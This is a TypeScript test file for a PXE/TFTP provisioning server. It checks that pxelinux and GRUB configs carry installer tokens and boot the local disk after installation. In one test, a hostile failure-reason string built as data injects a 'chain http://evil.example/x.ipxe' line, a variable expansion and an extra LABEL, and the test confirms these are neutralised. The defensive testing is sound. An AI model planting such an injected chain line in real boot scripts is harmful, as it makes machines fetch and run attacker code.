// The TFTP-generated pxelinux/GRUB configs follow the same boot state as the iPXE script (real TFTP client), and an
// installer's failure reason can never inject lines into a boot script or config.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { call, startTestServer, type TestServer } from '../support/stage0-server.ts';
import { tftpTestGet } from '../../src/net/tftp-test-client.ts';
import { freeUdpPort } from '../support/free-udp-port.ts';

describe('provisioning: TFTP configs and hostile reasons', () => {
  let s: TestServer;
  let port: number;
  const api = (m: string, p: string, b?: unknown) => call(s.url, m, `/api/v1${p}`, b);
  const cfg = async (file: string) => {
    const r = await tftpTestGet(port, file);
    assert.equal(r.error, undefined, file);
    return r.data.toString();
  };
  before(async () => {
    port = await freeUdpPort();
    s = await startTestServer('sqlite', { tftp: { enabled: true, listen: '127.0.0.1', port }, boot: { httpBase: 'http://10.0.0.1:8080' } });
    assert.equal((await api('POST', '/profiles', { name: 'img', kernel: 'env/vmlinuz', initrd: 'env/initrd.gz', cmdline: 'console=ttyS0' })).status, 201);
    for (const [name, mac] of [['t1', '52:54:00:00:30:01'], ['t2', '52:54:00:00:30:02']]) assert.equal((await api('POST', '/nodes', { name, macs: [mac] })).status, 201);
    assert.equal((await api('POST', '/nodeset', { noderange: 't1,t2', target: 'osimage=img' })).status, 200);
  });
  after(async () => { await s?.stop(); });

  test('pxelinux and GRUB configs carry the installer and its token, then boot the disk after install-done', async () => {
    const px = await cfg('pxelinux.cfg/01-52-54-00-00-30-01');
    assert.match(px, /\n  KERNEL http:\/\/10\.0\.0\.1:8080\/boot\/m\/52:54:00:00:30:01\/assets\/env\/vmlinuz\n/);
    const token = /\n  APPEND console=ttyS0 stage0\.mode=install stage0\.server=http:\/\/10\.0\.0\.1:8080 stage0\.token=([A-Za-z0-9_-]{43})\n/.exec(px)?.[1];
    assert.ok(token, px);
    const grub = await cfg('grub.cfg-01-52-54-00-00-30-01');
    const grubToken = /stage0\.token=([A-Za-z0-9_-]{43})/.exec(grub)?.[1];
    assert.ok(grubToken && grubToken !== token, 'each rendered config mints its own token');
    assert.equal((await fetch(`${s.url}/api/v1/install/${token}/done`)).status, 410, 'superseded by the GRUB config');
    assert.equal((await fetch(`${s.url}/api/v1/install/${grubToken}/done`)).status, 200);
    assert.match(await cfg('pxelinux.cfg/01-52-54-00-00-30-01'), /LOCALBOOT 0/);
    assert.match(await cfg('grub.cfg-01-52-54-00-00-30-01'), /\n  exit\n/);
  });

  test('a failure reason with line breaks and ${…} cannot add commands to the iPXE script or the configs', async () => {
    const token = /stage0\.token=([A-Za-z0-9_-]{43})/.exec(await (await fetch(`${s.url}/boot.ipxe?mac=52:54:00:00:30:02`)).text())![1]!;
    const evil = 'disk gone\nchain http://evil.example/x.ipxe\r\n${net0/mac}\nLABEL evil';
    assert.equal((await fetch(`${s.url}/api/v1/install/${token}/failed`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: evil })).status, 200);
    const script = await (await fetch(`${s.url}/boot.ipxe?mac=52:54:00:00:30:02`)).text();
    assert.doesNotMatch(script, /^(chain|kernel|LABEL)/m);
    assert.doesNotMatch(script, /\$\{/);
    assert.match(script, /disk gone chain http:\/\/evil\.example\/x\.ipxe \{net0\/mac\} LABEL evil/);
    const px = await cfg('pxelinux.cfg/01-52-54-00-00-30-02');
    assert.doesNotMatch(px, /^(chain|LABEL evil)/m);
    assert.equal(px.split('\n').filter((l) => l.startsWith('LABEL')).length, 1);
  });
});
